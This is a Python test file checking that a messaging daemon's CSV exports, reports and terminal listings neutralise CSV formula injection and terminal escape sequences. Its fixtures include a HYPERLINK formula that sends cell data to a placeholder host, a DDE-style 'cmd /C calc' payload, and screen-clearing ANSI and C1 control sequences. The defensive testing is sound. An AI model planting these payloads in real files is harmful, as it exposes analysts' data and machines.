"""What women text reaches analysts' spreadsheets and terminals: formulas
are defused in every CSV, control characters are made visible in every
listing for a terminal, and the JSON lines export stays exact."""
import csv
import io
import json
import os
import unittest

from harness import Daemon

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Loan help")'
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "\uff1d1+1"                       # full-width equals sign
ESCAPES = "\x1b[2J\x1b]0;owned\x07hello\x1b[31m"
C1 = "loan \u009b31m red"                # C1 CSI in UTF-8
NAME = "Sita\u009b2J\x7f"


def has_controls(s):
    return any(ord(c) < 0x20 and c not in "\n" or 0x7f <= ord(c) <= 0x9f
               for c in s)


class OutputSafety(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.d = Daemon().start()
        texts = [FORMULA, AT, WIDE, ESCAPES, C1, "-2+3", "\t=1+1",
                 "loan bhadohi"]
        for i, t in enumerate(texts):
            status, _ = cls.d.console("+9198765%05d" % (600 + i), t,
                                      "inj%d" % i)
            assert status == 200, (t, status)
        status, _ = cls.d.console("+919876500700", "name " + NAME, "nm")
        assert status == 200, status
        cls.texts = texts

    @classmethod
    def tearDownClass(cls):
        cls.d.stop()

    def run_ok(self, *args):
        r = self.d.cli(*args)
        self.assertEqual(r.returncode, 0, r.stderr)
        return r.stdout.decode("utf-8")

    def assert_defused(self, cells):
        """No cell a spreadsheet would take for a formula."""
        for c in cells:
            if c[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"):
                self.assertRegex(c, r"^[+-]?[0-9]+$", c)

    def test_export_csv_defuses_formulas(self):
        out = self.run_ok("export", "--format", "csv", "--reveal-phones")
        rows = list(csv.DictReader(io.StringIO(out, newline="")))
        inbound = {r["text"] for r in rows if r["direction"] == "in"}
        for t in (FORMULA, AT, WIDE, "-2+3", "\t=1+1"):
            self.assertIn("'" + t, inbound)
            self.assertNotIn(t, inbound)
        # Text that is no formula is written as it came.
        self.assertIn("loan bhadohi", inbound)
        for r in rows:
            self.assert_defused(r.values())
        # Phones (E.164, revealed) stay exact.
        self.assertIn("+919876500600", {r["phone"] for r in rows})
        # Raw: the dangerous cell is quoted, with the ' inside the quotes.
        self.assertIn('"\'=HYPERLINK(""http://x.example/?""&A1,'
                      '""Loan help"")"', out)

    def test_jsonl_export_is_exact(self):
        rows = self.d.export()
        inbound = [r["text"] for r in rows if r["direction"] == "in"]
        for t in self.texts:
            self.assertIn(t, inbound)
        raw = self.run_ok("export")
        # Exact, yet nothing a terminal obeys if the file is read with cat.
        self.assertFalse(has_controls(raw.replace("\n", "")))
        self.assertIn("\\u001b[2J", raw)
        self.assertIn("\\u009b31m", raw)

    def test_report_csv_defuses_formulas(self):
        out = self.run_ok("report", "--format", "csv", "--section",
                          "unmatched", "--no-suppress")
        rows = list(csv.reader(io.StringIO(out, newline="")))
        # The section lists the words of messages not understood (so a
        # coordinator sees what to add to the lexicon), not whole texts:
        # the formulas' words are there, and no cell is a live formula.
        self.assertEqual(rows[0], ["word", "messages"])
        cells = [c for r in rows for c in r]
        self.assert_defused(cells)
        # (The HYPERLINK text asks for "Loan help": it was understood.)
        self.assertIn("calc", [c.lower() for c in cells])

    def test_listings_escape_controls(self):
        # A name is kept as she wrote it, DEL and C1 CSI included.
        out = self.run_ok("contacts")
        self.assertFalse(has_controls(out), repr(out))
        self.assertIn("Sita\\u009b2J\\x7f", out)
        out = self.run_ok("report", "--no-suppress")
        self.assertFalse(has_controls(out), repr(out))

    def test_import_errors_escape_controls(self):
        # A contact list from a partner quotes its fields back in errors.
        path = os.path.join(self.d.tmp, "partner.csv")
        with open(path, "w", encoding="utf-8") as f:
            f.write("phone,name,district,language,role,groups\n"
                    "+919876500901,Asha,,\x1b[2J\x1b]0;owned\x07,,\n")
        r = self.d.cli("import", "contacts", path)
        self.assertEqual(r.returncode, 1)
        err = r.stderr.decode("utf-8")
        self.assertIn("language must be hi or en (Hindi or English), not "
                      "\"\\x1b[2J\\x1b]0;owned\\x07\"", err)
        self.assertFalse(has_controls(err), repr(err))


if __name__ == "__main__":
    unittest.main()
